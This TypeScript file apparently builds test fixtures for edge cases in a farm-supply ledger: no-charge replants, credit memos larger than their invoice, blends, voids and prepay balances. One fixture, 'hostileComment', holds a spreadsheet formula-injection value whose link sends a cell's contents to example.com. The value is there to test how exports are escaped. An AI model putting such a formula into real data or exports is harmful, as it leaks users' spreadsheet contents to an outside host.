import { applyCredit } from '../book';
import { cropYearOf, openDay, plusDays } from '../calendar';
import { type DraftLine, take } from '../draft';
import { MICRO } from '../exact';
import { receivePrepay } from '../prepaying';
import { blendLines } from '../visits/fertility';
import type { Edge } from './edge';

/** Seed replaced without charge: listed, never payable, not in the ledger. */
export const zeroTotal =
  (accountNo: string): Edge =>
  ({ asOf, account, ticket }) => {
    const { homeBranch, fields } = account(accountNo);
    ticket(accountNo, {
      date: openDay(plusDays(asOf, -33)),
      branch: homeBranch,
      ticketNo: 'T700000',
      comments: 'Replant, no charge',
      lines: [take('CANOLA', 4 * MICRO, { field: fields[0], discountMicro: MICRO, lotNo: '26R40221' })],
    });
  };

/** A credit memo that is larger than the one invoice it can be set against. */
export const creditOverInvoice =
  (accountNo: string): Edge =>
  ({ asOf, account, ticket, when }) => {
    const branch = account(accountNo).homeBranch;
    const date = plusDays(asOf, -2);
    const small = ticket(accountNo, {
      date: plusDays(asOf, -9),
      branch,
      ticketNo: 'T700312',
      left: true,
      lines: [take('GLOVES', 3 * MICRO), take('BOOTS', MICRO)],
    });
    const memo = ticket(accountNo, {
      date,
      branch,
      docType: 'C',
      ticketNo: 'T700313',
      comments: `Return of unopened seed; applied to ${small.no}`,
      left: true,
      lines: [take('WHT50', -48 * MICRO, { lotNo: '25A11907' })],
    });
    when(accountNo, { date, happen: () => applyCredit(memo, small) });
  };

/** A blend and its seven components, priced on one side only: once on the blend, once on the components. */
export const blends =
  (accountNo: string): Edge =>
  ({ asOf, account, random, ticket }) => {
    for (const [days, priceOnParent] of [
      [-15, true],
      [-44, false],
    ] as const) {
      const date = openDay(plusDays(asOf, days));
      const scene = { account: account(accountNo), date, random };
      ticket(accountNo, {
        date,
        branch: account(accountNo).homeBranch,
        ticketNo: priceOnParent ? 'T700007' : 'T700008',
        lines: blendLines(scene, priceOnParent),
      });
    }
  };

/** Entered twice and taken back: zero amounts, still listed. */
export const voided =
  (accountNo: string): Edge =>
  ({ asOf, account, ticket }) => {
    const text: DraftLine = { lineType: 'X', description: 'Entered twice, void' };
    const draft = {
      date: openDay(plusDays(asOf, -40)),
      branch: account(accountNo).homeBranch,
      lines: [text],
    };
    ticket(accountNo, { ...draft, voided: true, comments: 'Void: entered twice' });
  };

/** A comment that a spreadsheet would run, freight on the header and a tax that belongs to no line. */
export const hostileComment =
  (accountNo: string): Edge =>
  ({ asOf, ticket }) => {
    ticket(accountNo, {
      date: openDay(plusDays(asOf, -18)),
      branch: 'LEW',
      ticketNo: 'T700666',
      freight: 4_250,
      headerTaxRate: 12_500,
      comments: '=HYPERLINK("http://example.com/?a="&A1,"Click here")',
      lines: [
        take('TWINE', 12 * MICRO),
        { lineType: 'X', description: 'Pallet, shrink-wrapped\nfork "B", bay 2' },
      ],
    });
  };

/** Prepaid goods that are all used up but for 37 cents. */
export const dust =
  (accountNo: string): Edge =>
  ({ asOf, account, ticket, when }) => {
    // Nothing else has time to draw on it.
    const date = openDay(plusDays(asOf, -31));
    const used = openDay(plusDays(asOf, -30));
    const cropYear = cropYearOf(used);
    const { homeBranch, fields } = account(accountNo);
    when(accountNo, {
      date,
      happen: (book) =>
        receivePrepay(book, {
          no: `PP-${cropYear}-${accountNo}-D`,
          date,
          cropYear,
          groups: ['LIM'],
          cents: 401_237,
          method: 'K',
        }),
    });
    ticket(accountNo, {
      date: used,
      branch: homeBranch,
      ticketNo: 'T700037',
      lines: [take('LIMEAG', 80 * MICRO, { field: fields[0], price: 50_150_000 })],
    });
  };

/** An invoice that prepay covers to the last cent, and prepay left over for more. */
export const prepaid =
  (accountNo: string): Edge =>
  ({ asOf, account, ticket, when }) => {
    const date = openDay(plusDays(asOf, -75));
    const used = openDay(plusDays(asOf, -21));
    const cropYear = cropYearOf(used);
    const no = `PP-${cropYear}-${accountNo}-M`;
    const receipt = { no, date, cropYear, groups: ['MIC'] as const, cents: 1_850_000, method: 'A' as const };
    const [first, second] = account(accountNo).fields;
    when(accountNo, { date, happen: (book) => receivePrepay(book, receipt) });
    ticket(accountNo, {
      date: used,
      branch: account(accountNo).homeBranch,
      ticketNo: 'T700144',
      lines: [
        take('ZN10', 82 * MICRO, { field: first }),
        take('MN8', 120 * MICRO, { field: second }),
        take('CU75', 44 * MICRO, { field: second }),
      ],
    });
  };
